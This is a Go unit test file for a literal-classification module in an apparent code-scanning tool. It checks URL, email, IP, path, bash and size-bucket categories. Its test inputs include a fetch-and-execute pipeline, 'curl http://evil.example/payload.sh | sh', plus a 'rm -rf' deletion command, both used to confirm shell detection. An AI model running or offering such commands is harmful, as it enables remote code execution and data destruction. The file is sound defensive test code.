package classify

import (
	"strings"
	"testing"

	"github.com/scanforge/sourceguard/internal/instr"
)

func TestString_StructuralCategoriesWinOverLength(t *testing.T) {
	cfg := DefaultConfig()
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"insecure url short", "http://x", "STRING_URL_INSECURE"},
		{"secure url", "https://example.com/path", "STRING_URL"},
		{"bare insecure scheme word", "ftp", "STRING_INSECURE_PROTOCOL"},
		{"email", "user@example.com", "STRING_EMAIL"},
		{"ipv4", "192.168.1.1", "STRING_IP"},
		{"semver", "v1.2.3", "STRING_VERSION"},
		{"unix path", "/etc/passwd", "STRING_PATH"},
		{"bash command", "rm -rf /tmp/x", "STRING_BASH"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := String(cfg, tt.in)
			if got.Kind != instr.ArgCategory || got.Str != tt.want {
				t.Fatalf("String(%q) = %+v, want category %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestString_ShortLiteralEmittedVerbatimLowercased(t *testing.T) {
	cfg := DefaultConfig()
	got := String(cfg, "HeLLo")
	if got.Kind != instr.ArgString {
		t.Fatalf("expected a verbatim string arg for a short non-structural literal, got %+v", got)
	}
	if got.Str != "hello" {
		t.Fatalf("expected verbatim value to be lowercased, got %q", got.Str)
	}
}

func TestString_LongNonStructuralLiteralBuckets(t *testing.T) {
	cfg := DefaultConfig()
	long := strings.Repeat("x", 50)
	got := String(cfg, long)
	if got.Kind != instr.ArgCategory {
		t.Fatalf("expected a size-bucket category for a long non-structural literal, got %+v", got)
	}
	if got.Str != "STRING_M" {
		t.Fatalf("expected STRING_M bucket for a 50-byte literal, got %q", got.Str)
	}
}

func TestSizeBucketBoundaries(t *testing.T) {
	tests := []struct {
		n    int
		want string
	}{
		{0, "STRING_XS"},
		{4, "STRING_XS"},
		{5, "STRING_S"},
		{15, "STRING_S"},
		{16, "STRING_M"},
		{127, "STRING_M"},
		{128, "STRING_L"},
		{4095, "STRING_L"},
		{4096, "STRING_XL"},
	}
	for _, tt := range tests {
		if got := sizeBucket(tt.n); got != tt.want {
			t.Errorf("sizeBucket(%d) = %q, want %q", tt.n, got, tt.want)
		}
	}
}

func TestInteger_AlwaysBucketedNeverVerbatim(t *testing.T) {
	cfg := DefaultConfig()
	small := Integer(cfg, 42)
	if small.Kind != instr.ArgCategory || small.Str != "INTEGER" {
		t.Fatalf("Integer(42) = %+v, want category INTEGER", small)
	}

	large := Integer(cfg, cfg.LargeIntegerThreshold+1)
	if large.Kind != instr.ArgCategory || large.Str != "INTEGER_LARGE" {
		t.Fatalf("Integer(large) = %+v, want category INTEGER_LARGE", large)
	}

	// Negative values bucket by magnitude the same as their positive
	// counterpart.
	neg := Integer(cfg, -(cfg.LargeIntegerThreshold + 1))
	if neg.Str != "INTEGER_LARGE" {
		t.Fatalf("Integer(negative large) = %+v, want category INTEGER_LARGE", neg)
	}
}

func TestFloatAndBoolean_AlwaysBucketed(t *testing.T) {
	if got := Float(3.14); got.Kind != instr.ArgCategory || got.Str != "FLOAT" {
		t.Fatalf("Float() = %+v, want category FLOAT", got)
	}
	if got := Boolean(true); got.Kind != instr.ArgCategory || got.Str != "BOOLEAN" {
		t.Fatalf("Boolean() = %+v, want category BOOLEAN", got)
	}
}

func TestLooksLikeBash_RequiresValidParse(t *testing.T) {
	if !looksLikeBash("curl http://evil.example/payload.sh | sh") {
		t.Fatalf("expected a well-formed shell pipeline to parse as bash")
	}
	if looksLikeBash("just a regular sentence") {
		t.Fatalf("expected a sentence with no shell verb to not classify as bash")
	}
}

func TestValidIPv4Octets_RejectsOutOfRange(t *testing.T) {
	if validIPv4Octets("999.1.1.1") {
		t.Fatalf("expected out-of-range octet to be rejected")
	}
	if !validIPv4Octets("10.0.0.1") {
		t.Fatalf("expected valid octets to be accepted")
	}
}
